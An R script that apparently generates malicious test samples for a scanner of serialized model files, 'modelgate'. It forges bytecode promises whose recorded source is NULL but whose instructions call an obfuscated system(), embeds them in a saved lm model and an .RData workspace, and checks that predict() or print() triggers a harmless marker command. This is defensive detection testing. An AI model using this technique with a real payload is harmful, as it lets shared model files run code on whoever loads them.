# Promises whose code is R bytecode recording NULL (a constant) as its source expression while its
# instructions fetch and call system(): R evaluates the instructions when the promise is forced
# (predict() rebuilding the model frame, print() of a workspace binding). modelgate judged such a
# promise by its recorded source ("a constant, nothing runs"); it must not be clean.
# Run from the repository root: Rscript samples/generate/r_bytecode_promise.R
out <- "samples/r/malicious"
rb <- function(d, top) {
  pool <- d[[3]]
  for (i in seq_along(pool)) {
    v <- pool[[i]]
    if (is.list(v) && length(v) == 3 && identical(v[[1]], as.name(".Code"))) pool[i] <- list(rb(v, FALSE))
    else if (i > 1 && is.call(v)) pool[i] <- list(quote(c(1)))
  }
  pool[1] <- if (top) list(NULL) else list(quote(c(1)))
  .Internal(mkCode(d[[2]], pool))
}
payload <- function() rb(.Internal(disassemble(compiler::compile(
  quote({ get(paste0("sys", "tem"))("touch modelgate-bypass.marker"); 2 })))), TRUE)
set.seed(1)
fitit <- function(d) { k <- 2; lm(y ~ x + I(x * k), data = d) }
fit <- fitit(data.frame(x = 1:20, y = rnorm(20)))
env <- environment(fit$terms)
rm("k", envir = env)
.Internal(delayedAssign("k", payload(), globalenv(), env))
saveRDS(fit, file.path(out, "lm_bytecode_promise.rds"))
# proof: forcing the promise runs the instructions (a marker in a fresh working folder)
proves <- function(expr) {
  wd <- tempfile("mg-r-proof-"); dir.create(wd)
  script <- file.path(wd, "proof.R")
  writeLines(c(sprintf("setwd('%s')", wd), expr), script)
  system2("Rscript", script, stdout = FALSE, stderr = FALSE)
  stopifnot(file.exists(file.path(wd, "modelgate-bypass.marker")))
}
lm_file <- normalizePath(file.path(out, "lm_bytecode_promise.rds"))
proves(sprintf("invisible(predict(readRDS('%s'), newdata = data.frame(x = 1:3)))", lm_file))
e <- new.env()
.Internal(delayedAssign("model", payload(), globalenv(), e))
# save() forces promises unless told not to: a workspace keeps the promise as it is
save(list = "model", envir = e, file = file.path(out, "workspace_bytecode_promise.RData"), eval.promises = FALSE)
proves(sprintf("load('%s'); print(model)", normalizePath(file.path(out, "workspace_bytecode_promise.RData"))))
cat("ok\n")
